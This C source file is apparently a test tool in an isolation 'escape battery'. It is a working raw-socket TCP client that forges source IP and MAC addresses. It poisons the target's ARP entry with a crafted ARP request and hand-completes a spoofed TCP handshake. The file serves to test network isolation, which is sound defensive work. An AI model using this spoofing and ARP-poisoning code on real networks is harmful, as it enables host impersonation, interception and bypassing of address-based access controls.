// A test tool of the escape battery (tests/isolation.rs), built with `gcc -static` and run as
// root inside a node: a TCP client that sends from any address and MAC it is told to.
// spoof IFACE SRCIP DSTIP DPORT DSTMAC [vlan0|novlan] [arp|noarp] [srcmac]
// Userspace TCP client with an arbitrary source address: poisons DST's ARP entry for SRCIP
// (an ARP request "who has DST tell SRCIP" from our MAC), sends a SYN, completes the
// handshake from the SYN-ACK it sniffs, prints what the server sends.
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <net/if.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <time.h>

static int fd, ifindex; static unsigned char mymac[6], dstmac[6], srcmac[6]; static int vlan;
static unsigned short csum(const void *d, int n, unsigned int s) {
  const unsigned short *p = d; while (n > 1) { s += *p++; n -= 2; } if (n) s += *(unsigned char*)p;
  while (s >> 16) s = (s & 0xffff) + (s >> 16); return ~s; }
static void sendframe(unsigned short etype, const void *payload, int len, const unsigned char *dmac) {
  unsigned char f[1600]; int o = 0; memcpy(f, dmac, 6); memcpy(f+6, srcmac, 6); o = 12;
  if (vlan) { f[o++]=0x81; f[o++]=0x00; f[o++]=0; f[o++]=0; }
  f[o++] = etype >> 8; f[o++] = etype & 0xff; memcpy(f+o, payload, len); o += len;
  while (o < 60) f[o++] = 0;
  struct sockaddr_ll a = {0}; a.sll_family = AF_PACKET; a.sll_ifindex = ifindex; a.sll_halen = 6; memcpy(a.sll_addr, dmac, 6);
  if (sendto(fd, f, o, 0, (void*)&a, sizeof a) < 0) perror("sendto"); }
static unsigned int sip, dip; static unsigned short sport, dport; static unsigned int seq, ack;
static void sendtcp(int flags, const char *data, int dlen) {
  unsigned char b[1500]; memset(b, 0, 40); struct iphdr *ip = (void*)b; struct tcphdr *t = (void*)(b+20);
  ip->version=4; ip->ihl=5; ip->ttl=64; ip->protocol=6; ip->saddr=sip; ip->daddr=dip; ip->tot_len=htons(40+dlen); ip->id=htons(rand());
  ip->check = csum(ip, 20, 0);
  t->source=htons(sport); t->dest=htons(dport); t->seq=htonl(seq); t->ack_seq=htonl(ack); t->doff=5; t->window=htons(65000);
  t->syn=!!(flags&1); t->ack=!!(flags&2); t->psh=!!(flags&4); t->fin=!!(flags&8); t->rst=!!(flags&16);
  memcpy(b+40, data, dlen);
  unsigned char ph[12]; memcpy(ph, &sip, 4); memcpy(ph+4, &dip, 4); ph[8]=0; ph[9]=6; unsigned short l = htons(20+dlen); memcpy(ph+10, &l, 2);
  unsigned int s = 0; const unsigned short *p = (void*)ph; for (int i=0;i<6;i++) s += p[i];
  t->check = csum(t, 20+dlen, s);
  sendframe(0x0800, b, 40+dlen, dstmac); }
static void parsemac(const char *s, unsigned char *m) { sscanf(s, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", m,m+1,m+2,m+3,m+4,m+5); }
int main(int argc, char **argv) {
  if (argc < 6) { fprintf(stderr, "usage\n"); return 2; }
  srand(time(0) ^ getpid());
  fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)); if (fd < 0) { perror("AF_PACKET"); return 1; }
  ifindex = if_nametoindex(argv[1]); struct ifreq r = {0}; strcpy(r.ifr_name, argv[1]); ioctl(fd, SIOCGIFHWADDR, &r); memcpy(mymac, r.ifr_hwaddr.sa_data, 6);
  memcpy(srcmac, mymac, 6); if (argc > 8) parsemac(argv[8], srcmac);
  sip = inet_addr(argv[2]); dip = inet_addr(argv[3]); dport = atoi(argv[4]); parsemac(argv[5], dstmac);
  vlan = argc > 6 && !strcmp(argv[6], "vlan0");
  int doarp = !(argc > 7 && !strcmp(argv[7], "noarp"));
  sport = 40000 + rand() % 20000; seq = rand();
  if (doarp) { // ARP request: who has DST, tell SRCIP (at our MAC)
    unsigned char a[28] = {0,1, 8,0, 6,4, 0,1}; memcpy(a+8, srcmac, 6); memcpy(a+14, &sip, 4); memcpy(a+24, &dip, 4);
    sendframe(0x0806, a, 28, dstmac); usleep(200000); }
  sendtcp(1, 0, 0); seq++;
  time_t end = time(0) + 5; int state = 0; char out[4096]; int outn = 0;
  while (time(0) < end) {
    struct pollfd p = {fd, POLLIN}; if (poll(&p, 1, 200) <= 0) continue;
    unsigned char b[2000]; struct sockaddr_ll from; socklen_t fl = sizeof from; int n = recvfrom(fd, b, sizeof b, 0, (void*)&from, &fl);
    if (n < 34 || from.sll_pkttype == PACKET_OUTGOING) continue;
    int o = 14; unsigned short et = b[12]<<8|b[13]; if (et == 0x8100) { et = b[16]<<8|b[17]; o = 18; }
    if (et != 0x0800) continue; struct iphdr *ip = (void*)(b+o); if (ip->protocol != 6 || ip->saddr != dip || ip->daddr != sip) continue;
    struct tcphdr *t = (void*)(b+o+ip->ihl*4); if (ntohs(t->dest) != sport) continue;
    int dl = ntohs(ip->tot_len) - ip->ihl*4 - t->doff*4; unsigned char *d = (unsigned char*)t + t->doff*4;
    if (t->rst) { printf("RST from server\n"); break; }
    if (t->syn && t->ack && state == 0) { ack = ntohl(t->seq)+1; sendtcp(2, 0, 0); state = 1; printf("handshake done (spoofed %s -> %s:%d)\n", argv[2], argv[3], dport); sendtcp(6, "hello\n", 6); seq += 6; continue; }
    if (dl > 0) { if (outn + dl < (int)sizeof out) { memcpy(out+outn, d, dl); outn += dl; } ack = ntohl(t->seq) + dl; sendtcp(2, 0, 0); }
    if (t->fin) { ack++; sendtcp(10, 0, 0); seq++; break; }
  }
  if (state == 0) printf("no SYN-ACK seen\n");
  fwrite(out, 1, outn, stdout); printf("\n[%d bytes received]\n", outn); return state ? 0 : 1;
}
